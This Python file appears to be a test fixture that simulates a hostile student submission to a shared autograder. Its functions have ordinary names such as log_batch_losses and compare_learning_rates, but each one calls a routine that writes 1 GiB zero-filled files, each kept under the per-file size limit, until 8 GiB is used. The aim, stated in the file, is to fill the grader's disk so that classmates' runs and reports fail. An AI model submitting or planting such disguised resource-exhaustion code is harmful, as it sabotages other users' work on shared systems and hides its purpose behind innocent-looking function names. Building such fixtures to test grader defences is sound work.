"""Attack: fill the grader's disk, so that classmates' runs and their reports fail.

Each file stays under the worker's limit on one file's size; together they would take the
disk (up to 8 GiB here, so that the suite itself stays bearable where nothing stops it).
"""
from pathlib import Path

CHUNK = b"\0" * (64 << 20)
PER_FILE, TOTAL = 16, 128  # chunks of 64 MiB: 1 GiB per file, 8 GiB in all


def fill(folder):
    written = 0
    try:
        for number in range(TOTAL // PER_FILE):
            with open(Path(folder) / f"ballast-{number}.bin", "wb") as file:
                for _ in range(PER_FILE):
                    file.write(CHUNK)
                    written += len(CHUNK)
    except OSError as error:
        raise RuntimeError(f"wrote {written >> 20} MiB, then: {error}") from None
    raise RuntimeError(f"wrote {written >> 20} MiB, then stopped by itself")


def log_batch_losses(log_dir, epoch_losses):
    fill(Path(log_dir).parent)


def log_train_and_test(log_dir, history):
    fill(Path(log_dir).parent)


def compare_learning_rates(log_root, x, y, learning_rates, epochs, device="cpu"):
    fill(Path(log_root).parent)
